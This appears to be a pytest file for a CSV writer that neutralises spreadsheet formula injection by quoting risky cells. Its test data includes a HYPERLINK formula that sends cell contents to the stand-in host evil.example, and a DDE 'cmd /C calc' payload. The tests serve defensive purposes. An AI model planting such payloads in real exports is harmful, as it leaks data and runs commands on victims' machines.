"""CSV cells a spreadsheet would run as formulas are neutralised; numbers and plain text are not."""

from __future__ import annotations

import csv
import io

import pytest

from facerec.album.csvfiles import SafeWriter, safe_cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Barack Obama", "Barack Obama"),
        ("/photos/a=b.jpg", "/photos/a=b.jpg"),  # a formula character inside is harmless
        ("-0.1234", "-0.1234"),  # a formatted number stays a number
        ("+5", "+5"),
        ("1e-3", "1e-3"),
        ("", ""),
    ],
)
def test_cells(value: str, written: str) -> None:
    assert safe_cell(value) == written


def test_numbers_and_none_pass_through() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) == ""
    assert safe_cell(True) == 1


def test_writer_round_trip() -> None:
    buf = io.StringIO()
    w = SafeWriter(buf)
    w.writerow(["name", "similarity"])
    w.writerow(["=1+1", -0.25])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["name", "similarity"], ["'=1+1", "-0.25"]]
